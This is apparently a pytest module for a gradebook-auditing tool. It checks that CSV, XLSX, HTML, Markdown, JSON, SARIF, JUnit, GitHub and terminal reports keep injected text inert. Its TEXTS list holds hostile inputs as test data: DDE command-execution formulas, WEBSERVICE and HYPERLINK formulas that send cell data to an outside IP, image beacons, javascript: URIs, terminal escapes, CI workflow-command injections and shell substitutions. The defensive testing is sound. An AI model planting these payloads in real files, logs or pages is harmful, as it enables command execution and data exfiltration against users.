"""Every format parsed back after a run over gradebooks full of injections: data stays data."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import zipfile
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from gradeaudit import discovery
from gradeaudit.annotate import annotated
from gradeaudit.export import Location, load
from gradeaudit.findings import Report
from gradeaudit.flow import Order, audited, finished, found
from gradeaudit.policy import load as policies
from tests.reporters.reports import HOSTILE_TEXTS, look

TEXTS = [
    *(text[:300].encode("utf-8", "replace").decode().replace("\0", "") for text in HOSTILE_TEXTS),
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
    "=WEBSERVICE(\"http://192.0.2.1/\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1|cmd",
    "\r=1+1",
    "' =1+1",
    "<img src=http://192.0.2.1/p.png>",
    "[click](http://192.0.2.1)",
    "![](http://192.0.2.1/p.png)",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    "javascript:alert(1)",
    "\x1b]8;;http://192.0.2.1\x07link\x1b]8;;\x07",
    "\x9b31m",
    "\u2028\u2029\x85\x0b\x0c",
    "%0D%0A::warning::x",
    "::add-mask::x",
    "##vso[task.setvariable]x",
    "##teamcity[buildStop]",
    "{0} {1} %s %(x)s",
    "${{ github.token }} $(id) `id`",
]  # fmt: skip
POLICY = """
district: DISTRICT
title: TITLE
missing_work: {codes: {MI: missing}, blank: forbidden}
marks: {forms: [points], maximum: 100%, minimum: 50%}
naming: {assignment: '^HW \\d+: .+', unique: true, max_length: 20}
roster: {identifier: '^\\d{6}$'}
counts: {total: {min: 9}}
"""
SPREADSHEET_RUNS = re.compile("[\\s'\"]*[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r]")
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?%?")
OUR_COMMAND = re.compile(r"::(error|warning|notice) (file=[^:,]*,line=\d+,(col=\d+,)?)?title=[^:,]*::[^:]")
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A gradebook for each text, in which the text is a title, a name, an id, a section, a mark and the file's name."""
    top = tmp_path_factory.mktemp("injections")
    (top / "exports").mkdir()
    for number, text in enumerate(TEXTS):
        name = re.sub(r"[/\n\r\0]", "_", text)[:80]
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(
            ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{text} (11)", "HW 2: B (12)", "HW 2: B (13)"]
        )
        writer.writerow(["Points Possible", "", "", "", "", "10", "10", "10"])
        writer.writerows(
            [[text, text, text, text, text, text, "12", ""], ["Ben", "2", "100002", "b", text, "7", "3", "-9"]]
        )
        (top / "exports" / f"{number} {name}.csv").write_text(out.getvalue(), "utf-8", newline="")
    quoted = [json.dumps(TEXTS[at]) for at in (0, 6)]
    (top / "policy.yaml").write_text(POLICY.replace("DISTRICT", quoted[0]).replace("TITLE", quoted[1]), "utf-8")
    return top


@pytest.fixture(scope="module")
def report(folder: Path) -> Report:
    source = policies.load(folder / "policy.yaml")
    rules = tuple(discovery.rules())
    order = Order((folder / "exports",), source, datetime.date(2026, 11, 24), rules, students="name")
    whole = finished(order, [audited(order, found(order))])
    assert (len(whole.gradebooks), whole.broken) == (len(TEXTS), ())
    assert len({entry.rule for entry in whole.findings}) > 8
    return look(whole, students="name", verbose=True)


def written(report: Report, format: str) -> str:
    return discovery.reporters()[format].render(report).decode("utf-8-sig")


def runs(text: str) -> bool:
    """Whether a spreadsheet would work a cell out instead of showing it."""
    return text[:1] != "'" and bool(SPREADSHEET_RUNS.match(text)) and not NUMBER.fullmatch(text)


def test_csv_has_no_formula_and_whole_rows(report: Report) -> None:
    rows = list(csv.reader(io.StringIO(written(report, "csv"), newline="")))
    assert len(rows) > len(report.findings)
    assert {len(row) for row in rows} == {len(rows[0])}
    assert [cell for row in rows for cell in row if runs(cell) or CONTROLS.search(cell) or "\n" in cell] == []


def test_xlsx_has_no_formula_and_no_link_out(report: Report) -> None:
    check_workbook(discovery.reporters()["xlsx"].render(report))


def test_an_annotated_workbook_has_no_formula_and_no_link_out(report: Report, folder: Path) -> None:
    for path in sorted((folder / "exports").iterdir())[:12]:
        mine = [entry for entry in report.findings if entry.file.startswith(f"exports/{path.name.partition(' ')[0]} ")]
        export = load(Location(path, mine[0].file))
        check_workbook(annotated(export, replace(report, findings=tuple(mine))))


def check_workbook(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            text = parts.read(name).decode("utf-8")
            ElementTree.fromstring(text)
            assert "<f>" not in text and 'TargetMode="External"' not in text, name
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 10
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert [text for text in texts if runs(text) or CONTROLS.search(text)] == []
    assert len(book.sheetnames) == len(set(book.sheetnames))


class Page(HTMLParser):
    """What a browser would make of a page: its elements, and the attributes that could do something."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: Counter[str] = Counter()
        self.active: set[str] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag] += 1
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "src", "action"):
                self.active.add(f"{tag} {name}")
            if name == "href" and not (value or "").startswith("#"):
                self.active.add(f"{tag} href {value}")


@pytest.mark.parametrize("view", ["teacher", "coordinator"])
def test_html_has_the_elements_of_a_harmless_page(report: Report, view: str) -> None:
    text = written(look(report, students="name", view=view), "html")
    page, harmless = Page(text), Page(written(look(replace(report, findings=(), gradebooks=()), view=view), "html"))
    assert page.elements["script"] == harmless.elements["script"]
    assert page.active == harmless.active == set()
    assert page.elements["form"] == harmless.elements["form"] <= 1
    assert not page.elements.keys() & {"img", "iframe", "object", "embed", "link", "base", "video", "audio"}
    assert "default-src 'none'" in text
    (data,) = re.findall(r'<script type="application/json" id="data">(.*?)</script>', text, re.DOTALL)
    assert len(json.loads(data)["findings"]) == sum(entry.status == "new" for entry in report.findings)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


def test_markdown_has_no_link_no_tag_and_whole_tables(report: Report) -> None:
    text = written(report, "markdown")
    bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", text)
    own = {"details", "/details", "summary", "/summary", "br"}
    assert set(re.findall(r"<([^>\s]*)", bare)) <= own
    assert not re.search(r"!\[|\]\(http|\]\(javascript|(?<!\w)@\w|https?://", bare)
    assert not CONTROLS.search(text.replace("\u200b", ""))
    for table in re.findall(r"(?:^\|.*\n)+", bare, re.MULTILINE):
        assert len({line.count("|") for line in table.splitlines()}) == 1


@pytest.mark.parametrize("format", ["json", "sarif", "gitlab", "jsonl"])
def test_json_of_every_kind_is_json_without_control_characters(report: Report, format: str) -> None:
    text = written(report, format)
    for record in text.splitlines() if format == "jsonl" else [text]:
        assert json.loads(record, parse_constant=lambda word: pytest.fail(word))
    assert not CONTROLS.search(text)
    if format == "sarif":
        results = json.loads(text)["runs"][0]["results"]
        assert len(results) == len(report.findings)
        assert not [one for one in results if re.search(r"(?<!\\)\[[^\]]*\]\(|(?<!\\)\{\d", one["message"]["text"])]


def test_junit_is_xml_without_control_characters(report: Report) -> None:
    text = written(report, "junit")
    root = ElementTree.fromstring(text)
    assert {one.tag for one in root.iter()} <= {"testsuites", "testsuite", "testcase", "failure", "error", "skipped", "properties", "property", "system-out"}  # fmt: skip
    assert not CONTROLS.search(text)


def test_github_gets_only_our_own_commands(report: Report) -> None:
    lines = written(report, "github").splitlines()
    assert len(lines) > 10
    assert [line for line in lines if not OUR_COMMAND.match(line)] == []
    assert not [line for line in lines if CONTROLS.search(line) or "##[" in line or "##vso[" in line]


@pytest.mark.parametrize("view", ["teacher", "coordinator"])
@pytest.mark.parametrize("color", [False, True])
def test_a_terminal_gets_colours_and_nothing_else_that_it_obeys(report: Report, view: str, color: bool) -> None:
    text = written(look(report, students="name", view=view, color=color, verbose=True, width=100), "text")
    plain = re.sub(r"\x1b\[[0-9;]*m", "", text)
    assert (plain != text) == color
    assert not CONTROLS.search(plain)
    assert not re.search(r"^\s*::|##(vso|teamcity)?\[", plain, re.MULTILINE)
